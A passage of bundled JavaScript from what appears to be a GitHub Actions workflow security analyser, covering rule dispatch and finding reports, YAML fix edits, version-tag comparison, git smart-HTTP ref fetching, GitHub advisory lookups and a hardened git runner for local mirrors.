        this.call("step", step);
        this.env(step, workflow);
        const { uses, run } = step;
        if (uses)
            this.uses({ uses, step, job: null });
        if (run)
            this.call("run", run);
    }
    uses(site) {
        if (this.options.isUsesJudged?.(site.uses) === false)
            return;
        this.call("uses", site);
    }
    permissions(owner) {
        const { permissions } = owner;
        if (permissions)
            this.call("permissions", permissions);
    }
    env(owner, workflow) {
        const { env: block } = owner;
        if (block)
            this.call("env", { block, workflow });
    }
    listenersOf(hook) {
        let listeners = this.listeners.get(hook);
        if (!listeners) {
            listeners = [];
            this.listeners.set(hook, listeners);
        }
        return listeners;
    }
    /** A rule that throws costs its own findings at this place, never the report. */
    call(hook, thing) {
        for (const { rule, hear, report } of this.listeners.get(hook) ?? NOBODY) {
            try {
                hear.call(rule, thing, report);
            }
            catch (error) {
                this.errors.push(internalError(rule, this.structure?.file.path ?? ".", error));
            }
        }
    }
    reporter(rule) {
        const report = (place, message, details = {}) => {
            const persona = this.options.personas.get(rule.id) ?? details.persona ?? rule.persona;
            if (!(0,lib/* isHeardBy */.it)(persona, this.options.persona))
                return;
            const identity = `${rule.id}\0${place.file.path}\0${place.start}\0${place.end}`;
            if (this.told.has(identity))
                return;
            this.told.add(identity);
            this.findings.push(this.draft(rule, place, message, persona, details));
        };
        const options = (0,config_options/* optionValues */.ib)(rule.options, this.options.options?.get(rule.id) ?? {});
        const { persona, isPartial = false } = this.options;
        return Object.assign(report, { repository: this.repo, persona, isPartial, options });
    }
    draft(rule, place, message, persona, details) {
        const route = this.structure?.file === place.file ? this.structure.routeTo(place.start) : null;
        const { fix } = details;
        return {
            rule: rule.id,
            severity: details.severity ?? rule.severity,
            confidence: details.confidence ?? "high",
            persona,
            message,
            location: locate(place),
            related: (details.related ?? []).map((other) => ({ message: other.message, location: locate(other.place) })),
            witness: details.witness ?? null,
            fix: fix
                ? {
                    description: fix.description,
                    safe: fix.safe,
                    files: [{ path: place.file.path, edits: fix.edits }, ...(fix.others ?? [])],
                }
                : null,
            // Findings that fewer people hear don't count among those that more people hear.
            anchor: `${route?.words ?? ""}\0${textOf(place, route?.node)}\0${details.persona ?? rule.persona}`,
            alsoLines: [...headLines(place, route), ...extentLines(place)],
            partLines: route?.part ? [place.file.position(route.part.start).line, lastLineOf(place.file, route.part)] : null,
        };
    }
}
const NOBODY = [];
const HOOKS = [
    "repository",
    "workflow",
    "action",
    "actionsLock",
    "dependabot",
    "renovate",
    "dockerfile",
    "permissions",
    "job",
    "reusableJob",
    "container",
    "step",
    "uses",
    "run",
    "env",
];
function internalError(rule, path, error) {
    const message = error instanceof Error ? error.message : String(error);
    return { path, line: 1, rule: rule.id, message: `internal-error: the rule failed here: ${message}` };
}
/** The location of a place; a block scalar is shown by its lines, without the line break at its end. */
function locate(place) {
    const { file } = place;
    const text = file.text;
    let end = place.end;
    while (end > place.start && (text[end - 1] === "\n" || text[end - 1] === "\r"))
        end--;
    const from = file.position(place.start);
    const to = file.position(end);
    return { path: file.path, startLine: from.line, startColumn: from.column, endLine: to.line, endColumn: to.column };
}
/** Without what can change unseen: quotes, line breaks, the whole of which the place is only the beginning. */
function textOf(place, node) {
    if (place.extent)
        return "";
    const isWhole = node?.kind === "scalar" && node.start === place.start && node.end === place.end;
    const text = isWhole ? node.value : place.file.text.slice(place.start, place.end);
    return text.replace(/\s+/g, " ").trim();
}
function extentLines({ file, extent }) {
    if (!extent)
        return [];
    const first = file.position(extent.start).line;
    const last = file.position(extent.end).line;
    return Array.from({ length: last - first + 1 }, (_, i) => first + i);
}
/** A block ends behind its last line break. */
function lastLineOf(file, { start, end }) {
    return file.position(Math.max(start, end - 1)).line;
}
function headLines({ file }, route) {
    return route?.head == null ? [] : [file.position(route.head).line];
}

// EXTERNAL MODULE: external "node:path"
var external_node_path_ = __webpack_require__(6760);
// EXTERNAL MODULE: ./packages/action-kit/lib/index.js + 16 modules
var action_kit_lib = __webpack_require__(2853);
;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/fixes/edits.js
/** Adds `key` to a mapping, after `after` or at its end. */
function insertEntry(map, key, value, after) {
    return map.flow ? insertInFlow(map, key, value) : insertInBlock(map, key, value, after ?? map.entries.at(-1));
}
function insertInFlow(map, key, value) {
    const { text } = map.file;
    if (text[map.end - 1] !== "}")
        return null;
    const last = map.entries.at(-1);
    const at = last ? endOf(last) : map.start + 1;
    // Between the last value and the brace there may be a comma already.
    const hasComma = last !== undefined && /^\s*,/.test(text.slice(at, map.end - 1));
    if (hasComma)
        return null;
    return { start: at, end: at, text: `${last ? ", " : ""}${key}: ${flowText(value)}` };
}
function flowText(value) {
    if (typeof value === "string")
        return value;
    return `{${Object.entries(value)
        .map(([key, text]) => `${key}: ${text}`)
        .join(", ")}}`;
}
function insertInBlock(map, key, value, after) {
    const { file } = map;
    const first = map.entries[0];
    if (!after || !first)
        return null;
    const indent = indentOf(file, first.key);
    if (indent === null)
        return null;
    const { at, newline } = endOfLine(file, lastCharacter(file, after));
    const lines = blockLines(key, value, indent, indentStep(map));
    return { start: at, end: at, text: lines.map((line) => newline + line).join("") };
}
function blockLines(key, value, indent, step) {
    if (typeof value === "string")
        return [`${indent}${key}: ${value}`];
    return [`${indent}${key}:`, ...Object.entries(value).map(([name, text]) => `${indent}${step}${name}: ${text}`)];
}
/** Removes an entry with its line; null where it is its mapping's only one, or stands behind a `- ` with others on its line. */
function removeEntry(map, entry) {
    const index = map.entries.indexOf(entry);
    if (index === -1 || map.entries.length === 1)
        return null;
    const next = map.entries[index + 1];
    const previous = map.entries[index - 1];
    if (map.flow) {
        if (next)
            return { start: entry.key.start, end: next.key.start, text: "" };
        return previous ? { start: endOf(previous), end: endOf(entry), text: "" } : null;
    }
    const { file } = map;
    const { at, newline } = endOfLine(file, lastCharacter(file, entry));
    const start = startOfLine(file, entry.key.start);
    // The first key of a list item shares its line with the dash: the next key takes its place.
    if (file.text.slice(start, entry.key.start).trim() !== "") {
        return next ? { start: entry.key.start, end: next.key.start, text: "" } : null;
    }
    const end = Math.min(file.text.length, at + (at < file.text.length ? newline.length : 0));
    return { start, end, text: "" };
}
/** Gives an entry another value. */
function setValue({ key, value, alias }, text) {
    if (alias)
        return null;
    const { start, end, file } = value;
    if (value.kind !== "scalar" || !value.isEmpty)
        return { start, end, text };
    if (start === key.end)
        return isKeyAlone(file, start) ? insertion(start, `: ${text}`) : null;
    // Else there is a tag or an anchor.
    return file.text[start - 1] === ":" ? insertion(start, ` ${text}`) : null;
}
/** `{key}` and `{key, other: 1}`, unlike `? key`. */
function isKeyAlone({ text }, end) {
    let next = end;
    while (text[next] === " ")
        next++;
    return text[next] === "," || text[next] === "}";
}
function insertion(at, text) {
    return { start: at, end: at, text };
}
/** Sets a key of the mapping that `parent` holds under `name` (`with`, `env`, …), which is added where it is missing. */
function setIn(parent, name, key, value, after) {
    const holder = parent.entry(name);
    if (!holder)
        return insertEntry(parent, name, { [key]: value }, after);
    if (holder.alias)
        return null;
    const { value: node } = holder;
    if (node.kind === "map") {
        const existing = node.entry(key);
        if (!existing)
            return node.entries.length === 0 && !node.flow ? null : insertEntry(node, key, value);
        return existing.value.kind === "scalar" ? setValue(existing, value) : null;
    }
    return node.kind === "scalar" && node.isEmpty && !parent.flow ? fillEmpty(parent, holder, key, value) : null;
}
/** `with:` and nothing behind it. */
function fillEmpty(parent, holder, key, value) {
    const indent = indentOf(parent.file, holder.key);
    if (indent === null)
        return null;
    const { at, newline } = endOfLine(parent.file, holder.key.end);
    return { start: at, end: at, text: `${newline}${indent}${indentStep(parent)}${key}: ${value}` };
}
function endOf(entry) {
    return entry.alias ? entry.alias.end : Math.max(entry.value.end, entry.key.end);
}
/** The end of an entry without the line breaks that a block scalar ends with. */
function lastCharacter(file, entry) {
    let end = endOf(entry);
    while (end > entry.key.end && /\s/.test(file.text[end - 1]))
        end--;
    return end;
}
function startOfLine(file, offset) {
    const { line } = file.position(offset);
    return file.lineStarts[line - 1];
}
function endOfLine(file, offset) {
    const { text } = file;
    const lineFeed = text.indexOf("\n", offset);
    const end = lineFeed === -1 ? text.length : lineFeed;
    return { at: text[end - 1] === "\r" && end > offset ? end - 1 : end, newline: newlineOf(file) };
}
/** As the file has it. A lone carriage return is none that all readers agree on. */
function newlineOf(file) {
    return /\r?\n/.exec(file.text)?.[0] ?? "\n";
}
/** White space as deep as a key stands; `- ` before it counts as two spaces. Null where a tab or a key stands before it. */
function indentOf(file, key) {
    const before = file.text.slice(startOfLine(file, key.start), key.start);
    return /^[ -]*$/.test(before) ? " ".repeat(before.length) : null;
}
/** One level of indentation, as the mapping's own children have it; two spaces where it has none. */
function indentStep(map) {
    for (const entry of map.entries) {
        const { value } = entry;
        if (entry.alias || value.kind !== "map" || value.flow || !value.entries[0])
            continue;
        const { file } = map;
        const own = file.position(entry.key.start).column;
        const inner = file.position(value.entries[0].key.start).column;
        if (inner > own)
            return " ".repeat(inner - own);
    }
    return "  ";
}

// EXTERNAL MODULE: ./packages/workflow-analysis/lib/model/index.js + 19 modules
var model = __webpack_require__(6012);
;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/places.js
/** Where something is missing from a mapping: its first line, without what follows. */
function firstLineOf(map) {
    const { text } = map.file;
    let end = map.start;
    while (end < map.end && text[end] !== "\n" && text[end] !== "\r")
        end++;
    const line = text.slice(map.start, end);
    const comment = line.search(/\s#/);
    const length = comment === -1 ? line.length : line.slice(0, comment).trimEnd().length;
    return { file: map.file, start: map.start, end: map.start + length, extent: map };
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rule.js
/** Declares a rule; everything about it is in this one value. */
function defineRule(rule) {
    return { persona: "regular", isZizmor: false, fixes: "none", sources: [], options: {}, ...rule };
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/upstream/answers.js
/** Questions to the outside world are asked at most this many at a time. */
const CONCURRENCY = 8;
/** Does a piece of work for each item, a bounded number at a time; the first failure ends it. */
async function inParallel(items, work) {
    const queue = [...items];
    let failed = false;
    const worker = async () => {
        while (queue.length > 0 && !failed) {
            try {
                await work(queue.shift());
            }
            catch (error) {
                failed = true;
                throw error;
            }
        }
    };
    await Promise.all(Array.from({ length: Math.min(CONCURRENCY, queue.length) }, worker));
}
/** Answers by key: each question is asked once, and its answer can be looked up from then on. */
class Answers {
    asked = new Map();
    known = new Map();
    ask(key, question) {
        let answer = this.asked.get(key);
        if (!answer) {
            answer = question().then((value) => {
                this.known.set(key, value);
                return value;
            });
            this.asked.set(key, answer);
        }
        return answer;
    }
    /** Undefined also where nobody asked. */
    get(key) {
        return this.known.get(key);
    }
}

// EXTERNAL MODULE: ./packages/workflow-analysis/node_modules/semver/functions/parse.js
var parse = __webpack_require__(2716);
;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/upstream/versions.js


const VERSION = /^(|.*[^0-9.])v?(\d{1,9})(?:\.(\d{1,9}))?(?:\.(\d{1,9}))?(?:-([0-9A-Za-z.-]+))?(?:\+[0-9A-Za-z.-]+)?$/;
/** Undefined for a tag that is no version. */
function parseVersionTag(tag) {
    // A ref is at most a few hundred characters; longer ones are nobody's version.
    const match = tag.length <= 256 ? VERSION.exec(tag) : null;
    if (!match)
        return undefined;
    const [, before = "", major, minor, patch, prerelease = ""] = match;
    const numbers = [major, minor, patch].flatMap((text) => (text === undefined ? [] : [Number(text)]));
    return { tag, prefix: before.replace(/v$/i, "").toLowerCase(), numbers, prerelease };
}
/** The more precise first: full versions before shorter, releases before pre-releases, then the newer. */
function comparePrecision(a, b) {
    return (b.numbers.length - a.numbers.length ||
        Number(a.prerelease !== "") - Number(b.prerelease !== "") ||
        compareNumbers(b.numbers, a.numbers) ||
        (0,lib/* compareText */.n6)(a.tag, b.tag));
}
/** By version, the older first; a pre-release comes before its release. What is alike goes by name. (Semantic Versioning 2.0.0, section 11) */
function compareVersions(a, b) {
    const [left, right] = [asSemVer(a), asSemVer(b)];
    // A pre-release that Semantic Versioning doesn't know has only its numbers to go by.
    return (left && right ? left.compare(right) : compareNumbers(a.numbers, b.numbers)) || (0,lib/* compareText */.n6)(a.tag, b.tag);
}
function asSemVer({ numbers, prerelease }) {
    const [major = 0, minor = 0, patch = 0] = numbers;
    return parse(`${major}.${minor}.${patch}${prerelease && `-${prerelease}`}`, { loose: true });
}
function compareNumbers(a, b) {
    for (let i = 0; i < Math.max(a.length, b.length); i++) {
        const difference = (a[i] ?? 0) - (b[i] ?? 0);
        if (difference !== 0)
            return difference;
    }
    return 0;
}
/** The tags that name versions, the most precise first. */
function versionTagsOf(tags) {
    return tags.flatMap((tag) => parseVersionTag(tag) ?? []).sort(comparePrecision);
}
/**
 * The tag that says most precisely which version a commit is.
 *
 * @param tags the tags on that commit
 * @param ref the tag by which it was asked for: only its family counts, and of that what the ref stands for (`v1` → `v1.1.0`,
 *   never `v2`); a ref that is no version takes any
 * @returns `ref` itself where no tag is more precise
 */
function mostPreciseTag(tags, ref) {
    const asked = parseVersionTag(ref);
    return versionTagsOf(tags).find((version) => !asked || standsFor(asked, version))?.tag ?? ref;
}
/** Is a version what another, shorter or alike, stands for? `v1` stands for `v1.2.0`. */
function standsFor(asked, version) {
    if (asked.prefix !== version.prefix || asked.numbers.length > version.numbers.length)
        return false;
    return asked.numbers.every((number, i) => number === version.numbers[i]);
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/upstream/known-refs.js


/** The refs of the repositories that were asked for, one exchange each. */
class KnownRefs {
    origin;
    answers = new Answers();
    byCommit = new WeakMap();
    constructor(origin) {
        this.origin = origin;
    }
    async load(slugs) {
        const unique = new Map();
        for (const slug of slugs)
            if (!unique.has(keyOfSlug(slug)))
                unique.set(keyOfSlug(slug), slug);
        await inParallel(unique.values(), (slug) => this.ask(slug));
    }
    async ask(target) {
        const { origin } = this;
        return origin ? this.answers.ask(keyOfSlug(target), () => origin.refsOf(slugOf(target))) : undefined;
    }
    /** Null when there is no such repository, undefined when nobody knows. */
    of(slug) {
        return this.answers.get(keyOfSlug(slug));
    }
    /** The tags that lead to a commit, in the order of the refs. */
    tagsAt(refs, commit) {
        let index = this.byCommit.get(refs);
        if (!index) {
            index = new Map();
            for (const [tag, at] of refs.tags) {
                const tags = index.get(at);
                if (tags)
                    tags.push(tag);
                else
                    index.set(at, [tag]);
            }
            this.byCommit.set(refs, index);
        }
        return index.get(commit.toLowerCase()) ?? [];
    }
    /**
     * The version that a commit is: the most precise of its tags, of the family of `hint` where that is a version.
     *
     * @param hint what the author calls it, or nothing
     */
    versionAt(refs, commit, hint) {
        const tags = this.tagsAt(refs, commit);
        if (hint !== undefined && tags.includes(hint))
            return parseVersionTag(mostPreciseTag(tags, hint));
        const family = hint === undefined ? undefined : parseVersionTag(hint)?.prefix;
        const versions = versionTagsOf(tags);
        return versions.find(({ prefix }) => prefix === family) ?? versions[0];
    }
}
/** Nothing but the name: what else a target holds is nobody's business who is asked. */
function slugOf({ owner, repo }) {
    return { owner, repo };
}
/** Owner and repository have no case on GitHub. */
function keyOfSlug({ owner, repo }) {
    return `${owner}/${repo}`.toLowerCase();
}
/** Names that may stand in an address or a path as they are. */
function isPlainName({ owner, repo }) {
    return [owner, repo].every((name) => /^[\w.-]{1,100}$/.test(name) && !/^\.+$/.test(name));
}
/** May all of a reference stand in an address or a path as it is? */
function isPlainTarget(target) {
    return isPlainName(target) && isPlainPath(target);
}
/** May an action stand at that path? It reaches an address, and a mirror's files. */
function isPlainPath({ path }) {
    return (path === "" ||
        path.split("/").every((part) => /^[^\p{Cc}%\\:?#*"<>|]{1,200}$/u.test(part) && !/^\.{1,2}$/.test(part)));
}
/** May git have a ref of that name? (git-check-ref-format) */
function isPossibleRef(ref) {
    return /^[^\p{Cc}\s~^:?*[\\]{1,1000}$/u.test(ref) && !/\.\.|@\{|\/\/|^\/|[/.]$/.test(ref);
}
/** A commit of a repository, whatever the path in it: one commit a repository. */
function keyOfCommit(target) {
    return `${keyOfSlug(target)}@${target.ref.toLowerCase()}`;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/upstream/combined-origin.js

/** A mirror for refs, history and files, and the platform for what no mirror knows: archived repositories and advisories. */
function combinedOrigin(mirror, platform) {
    return {
        refsOf: (slug) => mirror.refsOf(slug),
        reachabilityOf: (...question) => mirror.reachabilityOf(...question),
        fileAt: (...question) => mirror.fileAt(...question),
        releaseTimeOf: (...question) => mirror.releaseTimeOf(...question),
        aboutOf: (slug) => platform.aboutOf(slug),
        advisoriesOn: (...question) => platform.advisoriesOn(...question),
    };
}
/** Each repository by the first that has it: a GitHub Enterprise Server, else github.com. */
function fallbackOrigin(first, second) {
    const chosen = new Map();
    const asked = new Map();
    const choose = (slug) => {
        const key = keyOfSlug(slug);
        let origin = chosen.get(key);
        if (!origin) {
            const refs = first.refsOf(slug);
            asked.set(key, refs);
            origin = refs.then((found) => (found === null ? second : first));
            chosen.set(key, origin);
        }
        return origin;
    };
    return {
        async refsOf(slug) {
            const origin = await choose(slug);
            return origin === first ? asked.get(keyOfSlug(slug)) : origin.refsOf(slug);
        },
        reachabilityOf: async (slug, ...rest) => (await choose(slug)).reachabilityOf(slug, ...rest),
        fileAt: async (slug, ...rest) => (await choose(slug)).fileAt(slug, ...rest),
        releaseTimeOf: async (slug, ...rest) => (await choose(slug)).releaseTimeOf(slug, ...rest),
        aboutOf: async (slug) => (await choose(slug)).aboutOf(slug),
        advisoriesOn: async (slug, ...rest) => (await choose(slug)).advisoriesOn(slug, ...rest),
    };
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/upstream/origin.js
/** How messages call a repository. */
function nameOfSlug({ owner, repo }) {
    return `${owner}/${repo}`;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/upstream/action-file.js


/** Files of actions are small; a larger one is made to be slow. */
const MAX_BYTES = 1024 * 1024;
/** @throws UserError for a file that is larger than any action's */
function requireSmall(slug, path, bytes) {
    if (bytes <= MAX_BYTES)
        return;
    const reason = `${path} has ${bytes} bytes, more than the ${MAX_BYTES} that are read`;
    throw new action_kit_lib/* UserError */.yo(nameOfSlug(slug), reason, "look at what this action is");
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/upstream/refs.js
/** Makes refs of lines as `git show-ref --dereference` and the protocol give them; `<name>^{}` is what a tag leads to. */
class RefCollector {
    branches = new Map();
    tags = new Map();
    tagObjects = new Map();
    add(name, object) {
        if (name.startsWith("refs/heads/"))
            this.branches.set(name.slice("refs/heads/".length), object);
        else if (name.endsWith("^{}"))
            this.addPeeled(name.slice(0, -"^{}".length), object);
        else if (name.startsWith("refs/tags/"))
            this.tags.set(name.slice("refs/tags/".length), object);
    }
    /** What a tag object leads to; it comes behind the tag's own line. */
    addPeeled(name, commit) {
        if (!name.startsWith("refs/tags/"))
            return;
        const tag = name.slice("refs/tags/".length);
        const object = this.tags.get(tag);
        if (object !== undefined)
            this.tagObjects.set(object, commit);
        this.tags.set(tag, commit);
    }
    get refs() {
        return { branches: this.branches, tags: this.tags, tagObjects: this.tagObjects };
    }
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/upstream/smart-http-refs.js



const MAX_ANSWER_BYTES = 64 * 1024 * 1024;
/**
 * Refs over git's smart HTTP: one exchange a repository, which needs no token and knows no limit of requests.
 *
 * @see gitprotocol-http, gitprotocol-v2 (`ls-refs`), gitprotocol-pack (version 0)
 */
function smartHttpRefs({ http, serverUrl, token, }) {
    const authorization = token === undefined ? {} : { authorization: `Basic ${btoa(`x-access-token:${token}`)}` };
    return async (slug) => {
        const name = nameOfSlug(slug);
        const doing = `get the refs of ${name}`;
        const base = `${serverUrl}/${name}.git`;
        const ask = (sent) => http.request({
            doing,
            url: `${base}/info/refs?service=git-upload-pack`,
            headers: sent,
            maxBytes: MAX_ANSWER_BYTES,
        });
        let headers = { ...PROTOCOL, ...authorization };
        let first = await ask(headers);
        if (first.status === 401 && token !== undefined) {
            // A token that isn't good any more; refs of public repositories need none.
            headers = PROTOCOL;
            first = await ask(headers);
        }
        // Without rights a repository that is there looks like one that isn't.
        if (first.status === 401 || first.status === 403 || first.status === 404)
            return null;
        const lines = linesOf(expectOk(first, doing), doing);
        if (!lines.some((line) => line.trim() === "version 2"))
            return readAdvertisement(lines);
        const answer = await http.request({
            doing,
            // A repository that has another name now is asked by that one, as git does.
            url: first.url.replace(/\/info\/refs\?.*$/, "/git-upload-pack"),
            method: "POST",
            isQuestion: true,
            headers: { ...headers, "content-type": "application/x-git-upload-pack-request" },
            body: LS_REFS,
            maxBytes: MAX_ANSWER_BYTES,
        });
        return readLsRefs(linesOf(expectOk(answer, doing), doing));
    };
}
function expectOk({ status, body }, doing) {
    if (status === 200)
        return body;
    throw new action_kit_lib/* UserError */.yo(doing, `the server answered with status ${status}`, "check the address of the server, and try again");
}
const PROTOCOL = { "git-protocol": "version=2" };
const LS_REFS = [
    packet("command=ls-refs\n"),
    packet("object-format=sha1"),
    "0001",
    packet("peel\n"),
    packet("symrefs\n"),
    packet("ref-prefix refs/heads/\n"),
    packet("ref-prefix refs/tags/\n"),
    "0000",
].join("");
/** @see gitprotocol-common, "pkt-line Format" */
function packet(text) {
    return (text.length + 4).toString(16).padStart(4, "0") + text;
}
/**
 * The text of each packet; flush and delimiter packets are left out.
 *
 * @throws UserError for what is cut off or no such protocol, so that nothing is taken for missing that only didn't arrive
 */
function linesOf(body, doing) {
    const decoder = new TextDecoder();
    const lines = [];
    let isEnded = false;
    for (let at = 0; at < body.length;) {
        const prefix = decoder.decode(body.subarray(at, at + 4));
        const length = /^[0-9a-f]{4}$/i.test(prefix) ? Number.parseInt(prefix, 16) : Number.NaN;
        if (Number.isNaN(length) || length > body.length - at || length === 3) {
            throw new action_kit_lib/* UserError */.yo(doing, "the server's answer is no git protocol", "check the address of the server");
        }
        isEnded = length === 0;
        if (length > 4)
            lines.push(decoder.decode(body.subarray(at + 4, at + length)));
        at += Math.max(length, 4);
    }
    const refusal = lines.find((line) => line.startsWith("ERR "));
    if (refusal)
        throw new action_kit_lib/* UserError */.yo(doing, `the server refuses: ${refusal.slice(4).trim().slice(0, 200)}`, "try again later");
    if (!isEnded)
        throw new action_kit_lib/* UserError */.yo(doing, "the server's answer is cut off, or no git protocol", "try again");
    return lines;
}
/** Version 0: `<object> <ref>`, behind the first of them a NUL and the server's capabilities. */
function readAdvertisement(lines) {
    const collector = new RefCollector();
    for (const line of lines) {
        const match = /^([0-9a-f]{40}) ([^\0\n]+)/.exec(line);
        if (match)
            collector.add(match[2], match[1]);
    }
    return collector.refs;
}
/** Version 2: `<object> <ref>[ symref-target:<ref>][ peeled:<object>]`. */
function readLsRefs(lines) {
    const collector = new RefCollector();
    for (const line of lines) {
        const [object, name, ...attributes] = line.trimEnd().split(" ");
        if (object === undefined || name === undefined || !/^[0-9a-f]{40}$/.test(object))
            continue;
        const peeled = attributes.find((attribute) => attribute.startsWith("peeled:"));
        collector.add(name, object);
        if (peeled)
            collector.addPeeled(name, peeled.slice("peeled:".length));
    }
    return collector.refs;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/upstream/github-origin.js





/** Refs that are asked for a commit, beside the default branch and those that its comment names. */
const MOST_REFS = 20;
/** Answers from GitHub: refs over git, which has no limit of requests, and all else from the REST API. */
function gitHubOrigin(options) {
    return new GitHubOrigin(options);
}
class GitHubOrigin {
    options;
    abouts = new Map();
    client;
    constructor(options) {
        this.options = options;
    }
    refsOf(slug) {
        return smartHttpRefs(this.options)(slug);
    }
    async reachabilityOf(slug, commit, refs, hints) {
        const about = await this.aboutOf(slug);
        const first = [...(about ? [about.defaultBranch] : []), ...hints.filter((name) => hasRef(refs, name))];
        const others = newestFirst(refs).filter((name) => !first.includes(name));
        const asked = [...new Set([...first, ...others.slice(0, MOST_REFS)])];
        for (const base of asked)
            if (await this.contains(slug, base, commit))
                return "reachable";
        return others.length > MOST_REFS ? "unknown" : "unreachable";
    }
    /** Does a ref lead to a commit? (`behind`: the commit is an ancestor of the ref) */
    async contains(slug, base, commit) {
        const basehead = `${base}...${commit}`;
        const answer = await this.ask(`look for ${commit} in ${base} of ${nameOfSlug(slug)}`, (rest) => rest.repos.compareCommitsWithBasehead({ ...slug, basehead }));
        return answer?.status === "behind" || answer?.status === "identical";
    }
    async fileAt(slug, commit, path) {
        const answer = await this.ask(`get ${path} of ${nameOfSlug(slug)}`, (rest) => rest.repos.getContent({
            ...slug,
            path,
            ref: commit,
            headers: { accept: "application/vnd.github.raw+json" },
        }));
        // The types know only the JSON form, and a folder comes as a list.
        const text = answer;
        if (typeof text !== "string")
            return null;
        requireSmall(slug, path, Buffer.byteLength(text));
        return text;
    }
    aboutOf(slug) {
        const key = nameOfSlug(slug).toLowerCase();
        let about = this.abouts.get(key);
        if (!about) {
            about = this.askAbout(slug);
            this.abouts.set(key, about);
        }
        return about;
    }
    async askAbout(slug) {
        const answer = await this.ask(`look at ${nameOfSlug(slug)}`, (rest) => rest.repos.get(slug));
        return (answer && {
            fullName: answer.full_name,
            isArchived: answer.archived,
            id: answer.id,
            ownerId: answer.owner.id,
            defaultBranch: answer.default_branch,
        });
    }
    async releaseTimeOf(slug, tag, commit) {
        const name = nameOfSlug(slug);
        const release = tag === null
            ? null
            : await this.ask(`get the release ${tag} of ${name}`, (rest) => rest.repos.getReleaseByTag({ ...slug, tag }));
        const published = Date.parse(release?.published_at ?? "");
        if (release && !Number.isNaN(published))
            return { time: published, isImmutable: release.immutable === true };
        const answer = await this.ask(`get the commit ${commit} of ${name}`, (rest) => rest.repos.getCommit({ ...slug, ref: commit }));
        const committed = Date.parse(answer?.commit.committer?.date ?? "");
        return Number.isNaN(committed) ? null : { time: committed, isImmutable: false };
    }
    async advisoriesOn(slug, version) {
        const affects = `${nameOfSlug(slug)}@${version}`;
        const answer = await this.ask(`get the advisories on ${affects}`, (rest) => rest.securityAdvisories.listGlobalAdvisories({ ecosystem: "actions", affects }));
        return answer?.map((advisory) => ({
            id: advisory.ghsa_id,
            summary: advisory.summary,
            severity: severityOf(advisory.severity),
            fixedIn: fixedIn(advisory.vulnerabilities ?? [], slug, version),
        }));
    }
    /** Null for what isn't there. */
    async ask(doing, call) {
        this.client ??= this.connect();
        try {
            return await (await this.client).ask(doing, call);
        }
        catch (error) {
            if (error instanceof action_kit_lib/* HttpStatusError */.F9 && (error.status === 404 || error.status === 422))
                return null;
            throw error;
        }
    }
    connect() {
        const { http, token, apiUrl } = this.options;
        return (0,action_kit_lib/* createGitHub */.Cl)({ http, token, env: { GITHUB_API_URL: apiUrl } });
    }
}
function hasRef({ tags, branches }, name) {
    return tags.has(name) || branches.has(name);
}
/** Version tags from the newest, then all else in its order. */
function newestFirst({ tags, branches }) {
    const names = [...tags.keys(), ...branches.keys()];
    const versions = names.flatMap((name) => parseVersionTag(name) ?? []).sort((a, b) => compareVersions(b, a));
    return [...new Set([...versions.map(({ tag }) => tag), ...names])];
}
const SEVERITIES = {
    critical: "critical",
    high: "high",
    medium: "medium",
    low: "low",
};
/** GitHub leaves some advisories without one. */
function severityOf(word) {
    return SEVERITIES[word] ?? "medium";
}
/** The lowest version above the one in use that mends it: each range of vulnerable versions has its own. */
function fixedIn(vulnerabilities, slug, version) {
    const own = vulnerabilities.filter(({ package: of }) => of?.name?.toLowerCase() === nameOfSlug(slug).toLowerCase());
    const current = parseVersionTag(version);
    const versions = own.flatMap(({ first_patched_version: text }) => (text && parseVersionTag(text)) || []);
    const above = versions.filter((fixed) => !current || compareVersions(fixed, current) > 0);
    return above.sort(compareVersions)[0]?.tag ?? null;
}

// EXTERNAL MODULE: external "node:fs"
var external_node_fs_ = __webpack_require__(3024);
;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/upstream/git.js
const MAX_OUTPUT_BYTES = 64 * 1024 * 1024;
const TIMEOUT = 30_000;
/** The mirror may belong to somebody else; nothing of its configuration, nor of the user's, is to run. */
const SETTINGS = [
    "safe.directory=*",
    "core.fsmonitor=false",
    "core.hooksPath=/dev/null",
    "protocol.allow=never",
].flatMap((setting) => ["-c", setting]);
/**
 * Runs git on a bare repository, with nothing but its objects and refs. Only plumbing may be asked for: `log` and `show`
 * would run programs that the repository's configuration names.
 *
 * @returns also where git ends with another status than 0
 * @throws whatever `execFile` does when git isn't there, takes too long or says too much
 */
async function git(bare, ...args) {
    const env = {
        PATH: process.env.PATH,
        GIT_CONFIG_NOSYSTEM: "1",
        GIT_CONFIG_GLOBAL: "/dev/null",
        GIT_NO_REPLACE_OBJECTS: "1",
        GIT_NO_LAZY_FETCH: "1",
        LC_ALL: "C",
    };
    const options = { env, maxBuffer: MAX_OUTPUT_BYTES, timeout: TIMEOUT };
    // Not imports: checks that ask no mirror don't wait for them.
    const run = process.getBuiltinModule("node:util").promisify(process.getBuiltinModule("node:child_process").execFile);
    try {
        const { stdout, stderr } = await run("git", [...SETTINGS, "--git-dir", bare, ...args], options);
        return { status: 0, stdout, stderr };
    }
    catch (error) {
        const { code, stdout, stderr } = error;
        if (typeof code !== "number")
            throw error;
        return { status: code, stdout: stdout ?? "", stderr: stderr ?? "" };
    }
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/upstream/mirror-origin.js







/**
 * Answers from a folder of bare repositories, `<owner>/<repo>.git`: refs, history and files. Nothing of the network is
 * asked.
 *
 * @throws UserError when the folder isn't there
 */
function mirrorOrigin(named, cwd) {
    const folder = (0,external_node_path_.resolve)(cwd, named);
    if (!(0,external_node_fs_.statSync)(folder, { throwIfNoEntry: false })?.isDirectory()) {
        throw new action_kit_lib/* UserError */.yo("--git-mirror", `${named} is no folder`, "name a folder with <owner>/<repo>.git in it");
    }
    return new MirrorOrigin(folder);
}
class MirrorOrigin {
    folder;
    constructor(folder) {
        this.folder = folder;
    }
    async refsOf(slug) {
